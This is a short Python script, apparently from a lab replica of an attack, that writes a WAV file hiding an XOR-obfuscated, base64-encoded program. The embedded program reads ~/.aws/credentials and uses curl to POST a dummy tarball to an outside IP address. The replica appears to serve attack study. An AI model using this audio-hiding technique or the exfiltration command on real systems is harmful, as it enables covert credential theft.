"""`ringtone.py OUT`: the sound in which telnyx-replica finds its program, as the attack hid it."""

import base64
import sys
import wave

PROGRAM = b"""
import pathlib, subprocess
pathlib.Path("/tmp/tpcp.tar.gz").write_text("nothing")
pathlib.Path.home().joinpath(".aws/credentials").read_bytes()
subprocess.run(["curl", "-s", "-o", "/dev/null", "-X", "POST", "http://45.33.32.158:8080/",
                "-H", "X-Filename: tpcp.tar.gz", "--data-binary", "@/tmp/tpcp.tar.gz"])
"""
KEY = 0x2A
with wave.open(sys.argv[1], "wb") as sound:
    sound.setnchannels(1)
    sound.setsampwidth(1)
    sound.setframerate(8000)
    sound.writeframes(base64.b64encode(bytes([KEY]) + bytes(byte ^ KEY for byte in PROGRAM)))
